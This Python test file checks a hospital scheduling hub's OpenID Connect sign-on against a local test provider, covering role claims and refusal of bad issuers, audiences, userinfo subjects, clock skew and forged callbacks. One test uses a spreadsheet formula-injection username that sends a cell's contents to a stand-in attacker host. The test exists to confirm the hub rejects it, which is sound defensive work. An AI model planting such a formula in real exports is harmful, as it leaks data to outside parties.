"""The hospital's sign-on, against an OpenID provider not written here: panva's oidc-provider
(OpenID Certified, from npm), served by Node.js on loopback with its development login page
(tests/oidc_provider/provider.mjs). The hub sends the browser there, the person signs in, and
the hub exchanges the code, validates the ID token and reads the roles from the claims. The
faults are the provider's own: another issuer, a token issued to another of its clients, a
userinfo answer about someone else, a clock ahead or behind (the provider run under faketime)."""

import json
import os
import re
import shutil
import subprocess
from ipaddress import ip_network
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import jwt
import pytest
import requests
from cryptography.hazmat.primitives.asymmetric import rsa
from django.contrib.auth import get_user_model

from creneau.staff.models import SignOnIdentity, StaffAccess
from tests.cli import free_port

pytestmark = pytest.mark.django_db

PROVIDER = Path(__file__).parents[1] / "oidc_provider"
CLIENT_ID, CLIENT_SECRET = "creneau-hub", "a-secret-of-the-hospital-it"
NOT_COMPLETED = "n’a pas pu aboutir"  # noqa: RUF001
NO_ACCESS = "n’a pas encore accès à ces pages"  # noqa: RUF001


def _jwks() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key))
    return json.dumps({"keys": [{**jwk, "kid": "hospital-1", "use": "sig", "alg": "RS256"}]})


def needs(program: str, why: str) -> None:
    """As the browser tests: skipped on a workstation without it, a failure in CI."""
    if shutil.which(program) is None:
        (pytest.fail if os.environ.get("CI") == "true" else pytest.skip)(f"{program}: {why}")


@pytest.fixture(scope="module")
def node_provider():
    needs("node", "Node.js runs the OpenID provider of these tests")
    if not (PROVIDER / "node_modules" / "oidc-provider").is_dir():
        subprocess.run(["npm", "ci", "--silent"], cwd=PROVIDER, check=True)
    return _jwks()


@pytest.fixture
def provider(node_provider, places, settings):
    """Starts the provider (``claims``: login -> claims; ``fault``; ``issuer``: what it calls
    itself; ``clock``: faketime's offset) and sets the hub to use it. m.dupont is a secretary of
    the Pitié's neurosurgery by the claim, j.sansrole has no role, r.audit is an auditor."""
    department = places["department"]
    started = []

    def start(*, claims=None, fault="", issuer=None, clock=None, id_token_ttl=None):
        for process in started:
            process.terminate()
            process.wait(timeout=10)
        port = free_port()
        base = f"http://127.0.0.1:{port}"
        claims = claims or {
            "m.dupont": {
                "creneau_roles": [f"secretary:{department.establishment.finess}/{department.code}"],
                "given_name": "Marie",
                "family_name": "Dupont",
            },
            "j.sansrole": {},
            "r.audit": {"creneau_roles": ["auditor", "unknown:role"]},
        }
        command = ["node", "provider.mjs", str(port), "http://testserver/sign-on/callback/"]
        command += [CLIENT_ID, CLIENT_SECRET, issuer or base, fault]
        if clock:
            needs("faketime", "Debian's faketime skews the provider's clock")
            command = ["faketime", "-f", clock, *command]
        process = subprocess.Popen(
            command,
            cwd=PROVIDER,
            env={
                "PATH": "/usr/local/bin:/usr/bin:/bin",
                "OIDC_PROVIDER_JWKS": node_provider,
                "OIDC_PROVIDER_CLAIMS": json.dumps(claims),
                **({"OIDC_PROVIDER_ID_TOKEN_TTL": str(id_token_ttl)} if id_token_ttl else {}),
            },
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        )
        started.append(process)
        assert process.stdout.readline().strip() == "ready"
        settings.OIDC_RP_CLIENT_ID = CLIENT_ID
        settings.OIDC_RP_CLIENT_SECRET = CLIENT_SECRET
        settings.OIDC_OP_AUTHORIZATION_ENDPOINT = base + "/auth"
        settings.OIDC_OP_TOKEN_ENDPOINT = base + "/token"
        settings.OIDC_OP_USER_ENDPOINT = base + "/me"
        settings.OIDC_OP_JWKS_ENDPOINT = base + "/jwks"
        settings.OIDC_RP_SCOPES = "openid email profile"
        settings.CRENEAU_OIDC_ISSUER = base
        settings.CRENEAU_OIDC_NAME = "AP-HP"
        settings.CRENEAU_OUTGOING_ALLOWED_NETWORKS = (ip_network("127.0.0.0/8"),)
        settings.AUTHENTICATION_BACKENDS = [
            "django.contrib.auth.backends.ModelBackend",
            "creneau.staff.sign_on.HospitalSignOn",
        ]
        return base

    yield start
    for process in started:
        process.terminate()
        process.wait(timeout=10)


def sign_on(client, login: str):
    """What a browser does: the hub sends it to the provider, the person signs in there and
    consents, the provider sends it back to the hub with a code. Returns the hub's answer."""
    start = client.get("/sign-on/", {"next": "/staff/"})
    assert start.status_code == 302
    browser = requests.Session()
    url = start["Location"]
    for _step in range(8):
        answer = browser.get(url, allow_redirects=False)
        if answer.status_code == 200:
            action, body = re.search(
                r'<form[^>]*action="([^"]+)"[^>]*>(.*?)</form>', answer.text, re.S
            ).groups()
            fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', body))
            if 'name="login"' in body:
                fields.update(login=login, password="mot de passe de l'hôpital")
            answer = browser.post(urljoin(url, action), data=fields, allow_redirects=False)
        assert answer.status_code in (302, 303), answer.text[:500]
        url = urljoin(url, answer.headers["Location"])
        back = urlsplit(url)
        if back.netloc == "testserver":
            assert back.path == "/sign-on/callback/"
            return client.get(f"{back.path}?{back.query}")
    raise AssertionError("the provider never sent the browser back")


def refused_with(client, answer, message: str) -> None:
    """The sign-in page, with its message, and nobody signed in."""
    assert answer.status_code == 302, answer.content[:300]
    assert answer["Location"].startswith("/staff/login/?sign_on=")
    assert message in client.get(answer["Location"]).content.decode()
    assert client.get("/staff/").status_code == 302
    assert "_auth_user_id" not in client.session


def test_a_secretary_signs_on_with_the_hospitals_account_and_gets_the_claims_roles(
    client, places, provider
):
    provider()
    login_page = client.get("/staff/login/").content.decode()
    assert "Se connecter avec le compte de l’hôpital (AP-HP)" in login_page  # noqa: RUF001

    answer = sign_on(client, "m.dupont")

    assert (answer.status_code, answer["Location"]) == (302, "/staff/")
    home = client.get("/staff/")
    assert home.status_code == 200 and places["department"].name in home.content.decode()
    user = get_user_model().objects.get(sign_on__isnull=False)
    assert (user.username, user.first_name, user.last_name) == ("m.dupont", "Marie", "Dupont")
    access = StaffAccess.objects.get(user=user)
    assert (access.role, access.department, access.from_sign_on) == (
        "secretary",
        places["department"],
        True,
    )
    # Her department's agenda opens; another's is a 404, as for any secretary.
    role, other = places["role"], places["other_role"]
    assert client.get(f"/staff/agenda/practitioner/{role.public_id}/").status_code == 200
    assert client.get(f"/staff/agenda/practitioner/{other.public_id}/").status_code == 404


def test_each_sign_on_replaces_the_claims_roles_and_keeps_the_admins(
    client, aphp, places, provider
):
    provider()
    sign_on(client, "r.audit")
    user = get_user_model().objects.get(username="r.audit")
    assert list(StaffAccess.objects.filter(user=user).values_list("role", flat=True)) == [
        "auditor"
    ]  # the unknown role of the claim is left out
    # Meanwhile: a stale role from an earlier sign-on, and one given in the admin.
    StaffAccess.objects.create(
        user=user,
        role="est_admin",
        organisation=aphp,
        establishment=places["establishment"],
        from_sign_on=True,
    )
    StaffAccess.objects.create(
        user=user, role="secretary", organisation=aphp, department=places["other_department"]
    )
    client.logout()

    sign_on(client, "r.audit")

    assert sorted(StaffAccess.objects.filter(user=user).values_list("role", "from_sign_on")) == [
        ("auditor", True),
        ("secretary", False),
    ]
    assert SignOnIdentity.objects.get(user=user).last_sign_on_at is not None


def test_roles_end_when_the_provider_stops_sending_the_claim(client, aphp, places, provider):
    """Issue 27, point 8: many providers omit a claim that became empty."""
    provider(claims={"c.admin": {"creneau_roles": ["org_admin"]}})
    assert sign_on(client, "c.admin")["Location"] == "/staff/"
    user = get_user_model().objects.get(username="c.admin")
    assert StaffAccess.objects.filter(user=user, role="org_admin").exists()
    client.logout()

    provider(claims={"c.admin": {"given_name": "Claire"}})  # the claim is gone
    refused_with(client, sign_on(client, "c.admin"), NO_ACCESS)
    assert not StaffAccess.objects.filter(user=user).exists()

    # What the admin gives by hand stays, and is all the person has.
    StaffAccess.objects.create(
        user=user, role="secretary", organisation=aphp, department=places["department"]
    )
    assert sign_on(client, "c.admin")["Location"] == "/staff/"
    assert list(StaffAccess.objects.filter(user=user).values_list("role", flat=True)) == [
        "secretary"
    ]


def test_an_account_without_any_role_is_refused_and_says_why(client, provider):
    provider()
    refused_with(client, sign_on(client, "j.sansrole"), NO_ACCESS)


def test_a_token_from_another_issuer_is_refused(client, provider):
    """Issue 27, point 18: signed with the provider's key, but not the issuer the hub trusts."""
    provider(issuer="https://login.attacker.example/")
    refused_with(client, sign_on(client, "m.dupont"), NOT_COMPLETED)
    assert not get_user_model().objects.filter(username="m.dupont").exists()


def test_a_token_issued_to_another_client_is_refused(client, provider):
    """Issue 27, point 18: the provider's genuine ID token, for another of its applications."""
    provider(fault="aud")
    refused_with(client, sign_on(client, "m.dupont"), NOT_COMPLETED)
    assert not get_user_model().objects.filter(username="m.dupont").exists()


def test_a_userinfo_answer_about_someone_else_signs_nobody_in(client, aphp, provider):
    """Issue 27, point 19: the ID token names m.dupont, the userinfo answer an administrator."""
    admin = get_user_model().objects.create_user("org.admin")
    SignOnIdentity.objects.create(user=admin, subject="org.admin")
    StaffAccess.objects.create(user=admin, role="org_admin", organisation=aphp)
    provider(
        fault="userinfo-sub",
        claims={"m.dupont": {}, "org.admin": {"creneau_roles": ["org_admin"]}},
    )
    refused_with(client, sign_on(client, "m.dupont"), NOT_COMPLETED)
    assert not get_user_model().objects.filter(username="m.dupont").exists()
    assert SignOnIdentity.objects.get(user=admin).last_sign_on_at is None


@pytest.mark.parametrize(
    ("clock", "signed_in"),
    [("-10m", False), ("+1h", False), ("+5s", True), ("-30s", True)],
    ids=["expired", "an-hour-ahead", "five-seconds-ahead", "thirty-seconds-behind"],
)
def test_the_provider_s_clock(client, provider, clock, signed_in):
    """Issue 27, point 20: an expired token or one from an hour ahead is refused with the page's
    message, never a server error; ordinary skew (within CRENEAU_OIDC_LEEWAY) signs in. The
    provider's ID tokens live two minutes: ten minutes behind, it issues expired ones."""
    provider(clock=clock, id_token_ttl=120)
    answer = sign_on(client, "m.dupont")
    if signed_in:
        assert (answer.status_code, answer["Location"]) == (302, "/staff/")
        assert client.get("/staff/").status_code == 200
    else:
        refused_with(client, answer, NOT_COMPLETED)


def test_a_provider_on_a_forbidden_address_is_not_called(client, provider, settings):
    """The provider's endpoints go through the hub's guarded client like any outgoing call."""
    provider()
    settings.CRENEAU_OUTGOING_ALLOWED_NETWORKS = ()
    refused_with(client, sign_on(client, "m.dupont"), NOT_COMPLETED)


def test_a_forged_callback_opens_nothing(client, provider):
    provider()
    client.get("/sign-on/", {"next": "/staff/"})
    refused_with(
        client,
        client.get("/sign-on/callback/", {"code": "forged", "state": "forged"}),
        NOT_COMPLETED,
    )


def test_a_user_name_that_a_spreadsheet_would_run_is_refused(client, provider):
    """Issue 27, point 11: a provider account named like a formula."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    provider(claims={name: {"creneau_roles": ["auditor"]}})
    refused_with(client, sign_on(client, name), NOT_COMPLETED)
    assert not get_user_model().objects.filter(username__startswith="=").exists()


def test_without_a_provider_there_is_no_sign_on(client):
    assert client.get("/sign-on/").status_code == 404
    assert "compte de l’hôpital" not in client.get("/staff/login/").content.decode()  # noqa: RUF001
